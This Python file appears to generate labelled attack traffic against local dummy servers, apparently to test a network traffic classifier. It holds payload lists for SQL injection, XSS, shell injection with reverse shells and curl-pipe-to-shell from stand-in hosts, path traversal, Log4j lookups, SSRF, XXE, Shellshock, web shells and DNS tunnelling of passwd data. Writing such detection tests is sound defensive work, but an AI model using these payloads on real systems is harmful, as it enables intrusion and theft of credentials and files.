# SPDX-License-Identifier: BSD-2-Clause
"""Attacks as real clients send them: curl, sqlmap, nmap, ffuf, wapiti, whatweb, dig against servers of this machine that do no more
than answer. A sample is one turn of a dialogue: what one side says before the other speaks."""
import base64
import collections
import urllib.parse

from program import DEBIAN_PYTHON
import program
import stage

ATTACKS = []

SERVER = """
import http.server, sys
class H(http.server.SimpleHTTPRequestHandler):
    def any(self):
        n = int(self.headers.get("Content-Length") or 0)
        if n: self.rfile.read(n)
        b = b"<html><form action=/f><input name=id></form>done</html>"
        self.send_response(200); self.send_header("Content-Type", "text/html"); self.send_header("Content-Length", str(len(b)))
        self.end_headers(); self.wfile.write(b)
    do_POST = do_PUT = do_DELETE = do_PROPFIND = do_PATCH = any
    def do_GET(self):
        return super().do_GET() if self.path.startswith("/files/") else self.any()
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
"""


class Attack:
    def __init__(self, kind, packages, carriers, side, short, note, play):
        self.kind, self.packages, self.carriers, self.side = kind, packages, carriers, side
        self.short, self.note, self.play, self.name = short, note, play, play.__name__

    def missing(self):
        return [p for p in self.packages if program.version(p) is None]


def attack(kind, packages="curl", carriers=("HTTP",), side="c", short=False, note=""):
    """Decorates a function that attacks on a stage. carriers: the protocols of nDPI that bring it; side: who says what is bad."""
    def add(function):
        ATTACKS.append(Attack(kind, packages.split(), list(carriers), side, short, note, function))
        return function
    return add


def turns(session, side):
    """What `side` said, a piece for each time that it was its turn."""
    said, before = [], None
    for who, data in session.segments:
        if who == side and before == side and len(said[-1]) + len(data) <= stage.SEGMENT_BYTES:
            said[-1] += data
        elif who == side:
            said.append(data)
        before = who
    return said


def serve(s):
    """A web server behind a relay; its port."""
    port = s.port()
    s.server(port, DEBIAN_PYTHON, s.write("server.py", SERVER), port)
    return s.tcp(port)


def quote(text):
    return urllib.parse.quote(text, safe="")


def curl(s, to, path="/", *more):
    s.run("curl", "-s", "-o", "/dev/null", "-H", "Host: shop.example", "--path-as-is", *more,
          f"http://127.0.0.1:{to}{path}",
          must=False)


def in_urls(s, values, path="/item?id="):
    to = serve(s)
    for v in values:
        curl(s, to, path + quote(v))


def in_forms(s, values):
    to = serve(s)
    for v in values:
        curl(s, to, "/item", "--data-urlencode", "name=" + v, "-d", "page=2")


SQL = ["1' OR '1'='1", "1 UNION SELECT user, password FROM users--", "1'; DROP TABLE users; --",
       "1' AND SLEEP(5)-- -",
       "admin'--", "1 OR 1=1", "1' UNION ALL SELECT NULL,NULL,@@version-- ",
       "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
       "1;EXEC xp_cmdshell('dir')", "1' AND extractvalue(1,concat(0x7e,version()))-- ",
       "-1' UNION SELECT 1,load_file('/etc/passwd')#",
       "1'||(SELECT pg_sleep(5))||'"]
XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
       "\"><script src=//e.example/x.js></script>",
       "<body onload=alert(document.cookie)>", "<iframe src=javascript:alert(1)>",
       "<a href=\"javascript:alert(1)\">x</a>",
       "<details open ontoggle=alert(1)>", "<ScRiPt>alert(String.fromCharCode(88))</sCrIpT>",
       "<input autofocus onfocus=alert(1)>",
       "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
       "'\"><svg/onload=fetch('//e.example/'+document.cookie)>"]
SHELL = [";cat /etc/passwd", "|id", "$(curl http://e.example/x|sh)", "`wget http://e.example/x -O- | sh`",
         "& nc -e /bin/sh 192.0.2.9 4444",
         "; bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "127.0.0.1; uname -a", "|| ping -c 10 192.0.2.9 ||",
         "\n/bin/cat /etc/shadow",
         "; python3 -c 'import os; os.system(\"id\")'", "a.jpg;rm -rf /tmp/x", "%0aid", "a;cat${IFS}/etc/passwd",
         "1|whoami", "x; c\\at /etc/passwd", "report for Anna; cat /etc/passwd", "8.8.8.8 & type c:\\boot.ini",
         "a && powershell -enc SQBFAFgA"]
TRAVERSAL = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd",
             "..%2f..%2f..%2fetc%2fpasswd",
             "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..%252f..%252fetc/passwd", "..%c0%af..%c0%afetc/passwd",
             "../../../etc/passwd%00.png",
             "file:///etc/passwd", "/proc/self/environ", "../../WEB-INF/web.xml"]
CODE = ["<?php system($_GET['c']); ?>", "{{7*7}}", "${7*7}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "<%= 7*7 %>", "#{7*7}", "phpinfo()", "php://filter/convert.base64-encode/resource=index.php",
        "data://text/plain;base64,PD9waHA=",
        "expect://id", "__import__('os').system('id')",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "T(java.lang.Runtime).getRuntime().exec('id')", "O:8:\"Example1\":1:{s:10:\"cache_file\";s:9:\"shell.php\";}"]
JNDI = ["${jndi:ldap://e.example/a}", "${jndi:rmi://e.example/a}", "${jndi:dns://e.example/a}",
        "${${lower:j}ndi:ldap://e.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/a}", "${jndi:ldap://e.example/${env:AWS_SECRET_ACCESS_KEY}}",
        "${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap://e.example/a}", "${jndi:ldaps://e.example/a}",
        "${JNDI:LDAP://e.example/a}",
        "${${upper:j}ndi:${lower:l}dap://e.example/a}"]
SSRF = ["http://169.254.169.254/latest/meta-data/iam/", "http://localhost:22/", "http://127.0.0.1:6379/",
        "gopher://127.0.0.1:6379/_INFO",
        "http://[::1]/admin", "http://0x7f000001/", "http://2130706433/", "dict://127.0.0.1:11211/stat",
        "http://metadata.google.internal/",
        "file:///etc/hosts", "http://127.1/", "http://10.0.0.1/", "http://0177.0.0.1/", "http://[::ffff:127.0.0.1]/",
        "http://shop.example@192.168.1.1/", "http://127.0.0.1.nip.io/"]
SHOCK = ["() { :;}; echo; /bin/cat /etc/passwd", "() { :; }; /bin/bash -c 'id'",
         "() { ignored;};/bin/bash -i >& /dev/tcp/192.0.2.9/80 0>&1",
         "() { _; } >_[$($())] { echo hi; id; }", "() { (a)=>\\"]


@attack("SQL injection in a URL", short=True)
def sql_url(s):
    in_urls(s, SQL)


@attack("SQL injection in a form", short=True)
def sql_form(s):
    in_forms(s, SQL)


@attack("SQL injection, sqlmap's requests", "sqlmap", note="all requests of a run, the harmless first ones too")
def sql_sqlmap(s):
    to = serve(s)
    s.run("sqlmap", "-u", f"http://127.0.0.1:{to}/item?id=1", "--batch", "--random-agent", "--level", "1",
          "--technique", "BEU",
          "--output-dir", s.path("sqlmap"), must=False, seconds=12)


@attack("Cross-site scripting in a URL", short=True)
def xss_url(s):
    in_urls(s, XSS)


@attack("Cross-site scripting in a form", short=True)
def xss_form(s):
    in_forms(s, XSS)


@attack("Shell command in a URL", short=True)
def shell_url(s):
    in_urls(s, SHELL, "/ping?host=")


@attack("Shell command in a form")
def shell_form(s):
    in_forms(s, SHELL)


@attack("Log4j in the user agent", short=True)
def log4j_agent(s):
    to = serve(s)
    for v in JNDI:
        curl(s, to, "/", "-A", v)


@attack("Log4j in other headers, URL and body", short=True)
def log4j_elsewhere(s):
    to = serve(s)
    for v in JNDI:
        curl(s, to, "/", "-H", "X-Api-Version: " + v)
        curl(s, to, "/?q=" + quote(v))
        curl(s, to, "/", "-H", "Content-Type: application/json", "-d", '{"name": "' + v + '"}')


@attack("Path traversal in a parameter", short=True)
def traversal_value(s):
    to = serve(s)
    for v in TRAVERSAL:
        curl(s, to, "/show?file=" + v)


@attack("Path traversal in the path", short=True)
def traversal_path(s):
    to = serve(s)
    for v in ("/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/cgi-bin/%%32%65%%32%65/etc/passwd",
              "/img/..%2f..%2fetc/passwd",
              "/static/../../app.py", "/%2e%2e/%2e%2e/etc/passwd", "/files/..\\..\\boot.ini", "/..;/manager/html",
              "/a/b/../../../c",
              "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", "/icons/.%%32%65/.%%32%65/etc/passwd"):
        curl(s, to, v)


@attack("Code and template injection in a URL", short=True)
def code_url(s):
    in_urls(s, CODE, "/page?name=")


@attack("XML external entity in a body")
def xxe(s):
    to = serve(s)
    for what in ("SYSTEM \"file:///etc/passwd\"", "SYSTEM \"http://169.254.169.254/latest/\"",
                 "PUBLIC \"x\" \"file:///etc/shadow\"",
                 "SYSTEM \"php://filter/read=convert.base64-encode/resource=index.php\"", "SYSTEM \"expect://id\"",
                 "SYSTEM \"ftp://e.example/x\"", "SYSTEM \"jar:http://e.example/a.zip!/b\"",
                 "SYSTEM \"netdoc:/etc/passwd\"",
                 "SYSTEM \"gopher://127.0.0.1:25/\"", "SYSTEM \"file:///c:/windows/win.ini\""):
        curl(s, to, "/import", "-H", "Content-Type: application/xml", "-d",
             f"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x {what}>]>"
             "<r><name>&x;</name></r>")


@attack("Server-side request forgery in a URL", short=True)
def ssrf(s):
    in_urls(s, SSRF, "/fetch?url=")


@attack("Shellshock in headers")
def shellshock(s):
    to = serve(s)
    for v in SHOCK:
        curl(s, to, "/cgi-bin/status", "-A", v)
        curl(s, to, "/cgi-bin/status", "-H", "Referer: " + v)
        curl(s, to, "/cgi-bin/status", "-H", "Cookie: a=" + v)


def contents(path):
    with open(path, "rb") as f:
        return f.read()


@attack("Program or script in a response", side="s", short=True)
def program_download(s):
    elf, others = contents("/bin/true"), {"b.bin": contents("/bin/cat"), "c.bin": contents("/usr/bin/env")}
    portable = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(200)
    portable += b"This program cannot be run in DOS mode.\r\n" + bytes(300)
    files = {"a.bin": elf, "a": elf, "a.elf": elf, "a.exe": portable, "a.dll": portable, "a.dat": portable,
             "a.png": portable,
             "a.sh": b"#!/bin/sh\ncurl http://e.example/x | sh\n",
             "a.py": b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
             "a.class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(100), "a.txt": b"#!/bin/bash\nid\n",
             "a.ps1": b"Invoke-WebRequest e.example\r\n"}
    files.update(others, **{"b.exe": portable + bytes(100)})
    for name, data in files.items():
        s.write("files/" + name, data)
    to = serve(s)
    for name in files:
        curl(s, to, "/files/" + name)


@attack("Web shell upload")
def web_shell(s):
    s.write("x.php", "<?php system($_REQUEST['c']); ?>")
    s.write("x.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>")
    s.write("x.aspx", "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(Request[\"c\"]); %>")
    to = serve(s)
    for name in ("x.php", "x.jsp", "x.aspx"):
        curl(s, to, "/upload", "-F", "file=@" + s.path(name))
        curl(s, to, "/upload", "-F", f"file=@{s.path(name)};type=image/png;filename=a.png")
        curl(s, to, "/files/" + name, "-T", s.path(name))
        curl(s, to, "/upload", "--data-binary", "@" + s.path(name))


@attack("Credentials in clear text", "curl python3-pyftpdlib ldap-utils redis-tools mosquitto-clients",
        carriers=("HTTP", "FTP_CONTROL", "POP3", "IMAP", "SMTP", "LDAP", "Redis", "MQTT"),
        note="every turn of each login")
def credentials(s):
    to = serve(s)
    for path in ("/", "/admin", "/api/v1"):
        curl(s, to, path, "-u", "anna:secret")
    curl(s, to, "/login", "-d", "user=anna&password=secret")
    port = s.port()
    s.server(port, DEBIAN_PYTHON, "-m", "pyftpdlib", "-i", "127.0.0.1", "-p", port, "-u", "anna", "-P", "secret",
             "-d", s.mkdir("f"))
    s.run("curl", "-s", "-u", "anna:secret", f"ftp://127.0.0.1:{s.tcp(port)}/", must=False)
    mail = ((None, b"+OK POP3 ready\r\n"), (1, b"+OK\r\nUSER\r\n.\r\n"), (2, b"+OK\r\n"), (3, b"-ERR\r\n"))
    s.run("curl", "-s", "-m", "2", "-u", "anna:secret", f"pop3://127.0.0.1:{s.tcp(answers=mail)}/", must=False)
    mail = ((None, b"* OK IMAP4rev1 ready\r\n"), (1, b"* CAPABILITY IMAP4rev1\r\nA001 OK done\r\n"),
            (2, b"A002 NO\r\n"))
    s.run("curl", "-s", "-m", "2", "-u", "anna:secret", f"imap://127.0.0.1:{s.tcp(answers=mail)}/", must=False)
    mail = ((None, b"220 m.example ESMTP\r\n"), (1, b"250-m.example\r\n250 AUTH PLAIN LOGIN\r\n"), (2, b"535 no\r\n"))
    s.run("curl", "-s", "-m", "2", "-u", "anna:secret", f"smtp://127.0.0.1:{s.tcp(answers=mail)}/", "--mail-from",
          "a@b.example",
          must=False)
    s.run("ldapwhoami", "-x", "-H", f"ldap://127.0.0.1:{s.tcp()}", "-D", "cn=anna,dc=x", "-w", "secret", "-o",
          "nettimeout=1",
          must=False, seconds=2)
    s.run("redis-cli", "-h", "127.0.0.1", "-p", s.tcp(answers=((1, b"+OK\r\n"),)), "AUTH", "secret", must=False,
          seconds=2)
    s.run("mosquitto_pub", "-h", "127.0.0.1", "-p", s.tcp(), "-u", "anna", "-P", "secret", "-t", "a", "-m", "b",
          must=False, seconds=1)


@attack("DNS tunnel", "bind9-dnsutils dnsmasq-base", carriers=("DNS",),
        note="questions whose names are 150 bytes of base32")
def dns_tunnel(s):
    port = s.port(udp=True)
    s.server(port, "dnsmasq", "-k", "-C", "/dev/null", "-p", port, "--listen-address=127.0.0.1", "--bind-interfaces",
             "-R", "-h",
             f"--pid-file={s.path('pid')}", "-u", s.user, "--local=/t.example/", udp=True)
    to = s.udp(port)
    secret = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" * 3
    for i in range(12):
        text = base64.b32encode(secret[i * 5:i * 5 + 94]).decode().rstrip("=").lower()
        name = ".".join(text[k:k + 60] for k in range(0, len(text), 60)) + ".t.example"
        s.run("dig", "@127.0.0.1", "-p", to, "+tries=1", "+time=1", name, ("TXT", "A", "NULL", "MX")[i % 4],
              must=False)


@attack("Malformed TLS, heartbleed", "nmap openssl", carriers=("TLS",), note="all turns of nmap's scripts")
def tls_nmap(s):
    s.run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", s.path("key"), "-out",
          s.path("cert"), "-subj", "/CN=a")
    port = s.port()
    s.server(port, "openssl", "s_server", "-accept", f"127.0.0.1:{port}", "-www", "-key", s.path("key"), "-cert",
             s.path("cert"))
    to = s.tcp(port)
    s.run("nmap", "-Pn", "-n", "-sT", "-p", to, "--script", "+ssl-heartbleed,+ssl-ccs-injection,+sslv2,+ssl-poodle",
          "127.0.0.1", must=False,
          seconds=15)


@attack("Scanners' user agents")
def agents(s):
    to = serve(s)
    for v in ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
              "Nmap Scripting Engine",
              "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3",
              "WPScan v3.8.22", "gobuster/3.5",
              "Fuzz Faster U Fool v1.1.0", "DirBuster-1.0-RC1", "zgrab/0.x", "Wfuzz/3.1.0", "python-requests/2.28.1",
              "Arachni/v1.5", "x", "test",
              "<?php phpinfo(); ?>"):
        curl(s, to, "/", "-A", v)


@attack("Web scanners' requests: nmap, whatweb, ffuf, wapiti", "nmap whatweb ffuf wapiti",
        note="the first turns of each run")
def scanners(s):
    to = serve(s)
    s.run("nmap", "-Pn", "-n", "-sT", "-p", to, "--script",
          "+http-shellshock,+http-sql-injection,+http-phpself-xss,+http-passwd,"
          "+http-vuln-cve2017-5638,+http-vuln-cve2012-1823,+http-webdav-scan", "127.0.0.1", must=False, seconds=15)
    url = f"http://127.0.0.1:{to}/"
    s.run("whatweb", "-q", url, must=False, seconds=8)
    s.run("ffuf", "-s", "-u", url + "FUZZ", "-w", s.write("words",
                                                          "admin\n.git/config\n../etc/passwd\nbackup.zip\nphpinfo.php\n.env\n"),
          must=False, seconds=5)
    s.run("wapiti", "-u", url + "item?id=1", "-m", "exec,file,xss,sql", "--flush-session", "-v", "0", "-f", "txt",
          "-o", s.path("w.txt"),
          "--scope", "url", "--max-scan-time", "10", "--store-session", s.path("w"), "--store-config", s.path("wc"),
          must=False, seconds=14)


HONEST = ("/", "/item?id=17", "/search?q=O%27Brien+%26+sons", "/search?q=select+a+pump+from+the+list",
          "/search?q=union+station",
          "/search?q=a%3Cb+and+c%3Ed", "/go?to=https%3A%2F%2Fwww.example.org%2Fa", "/static/js/app.3f9a1c.js",
          "/v1.2/items/7.json",
          "/report?from=2024-01-01&to=2024-02-01&sort=-price", "/t?d=SGVsbG8sIFdvcmxkIQ%3D%3D", "/p?f=price+%2A+1.2",
          "/c?x=1%2B1%3D2",
          "/w?name=Anna+%22the+pump%22+Lee", "/m?text=drop+the+table+at+the+door%2C+please",
          "/q?filter=name+eq+%27pump%27",
          "/q?m=it%27s+5+o%27clock", "/tags?t=bash%3Bpython%3Bperl", "/fields?f=id%7Cname%7Ctype",
          "/say?m=dogs%3B+cat+is+out+%26+about",
          "/q?q=curl+-s+a.example+%7C+bash+-s", "/mail?t=Hello+%7B%7Bname%7D%7D", "/q?q=phpinfo()",
          "/oauth?redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2F&state=x", "/go?url=https%3A%2F%2F8.8.8.8%2F",
          "/a/b/c..d/e", "/img/logo@2x.png", "/q?json=%7B%22id%22%3A7%7D")


@attack("none: honest requests", note="what is refused here is refused wrongly", short=True)
def honest(s):
    to = serve(s)
    for path in HONEST:
        curl(s, to, path)
        curl(s, to, path, "-A", "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0", "-b",
             "session=5f3a9c0d; lang=en",
             "-H", "Accept-Language: en-GB,en;q=0.5", "-H", "Referer: http://shop.example/list?page=2")
    for body in ("name=Anna&comment=It%27s+fine%2C+thanks", "user=anna&note=select+one+or+more",
                 "q=a+%3C+b&r=c+%3E+d", "text=Hello%0AWorld", "text=I+typed%0Als+-la%0Aand+it+hung",
                 "text=use+%60ls+-la%60+%26+%60cat%60"):
        curl(s, to, "/post", "-d", body)
    for body in ('{"name": "O\'Brien", "note": "a < b && c > d"}', '{"query": "select the red one", "n": [1, 2, 3]}',
                 "[]"):
        curl(s, to, "/api", "-H", "Content-Type: application/json", "-d", body)
    curl(s, to, "/xml", "-H", "Content-Type: application/xml", "-d",
         "<order><name>Anna</name><note>it's fine</note></order>")
    curl(s, to, "/up", "-F", "file=@" + s.write("a.csv", "id,name\n1,pump\n"))


def kinds():
    return collections.OrderedDict((a.kind, a) for a in ATTACKS)
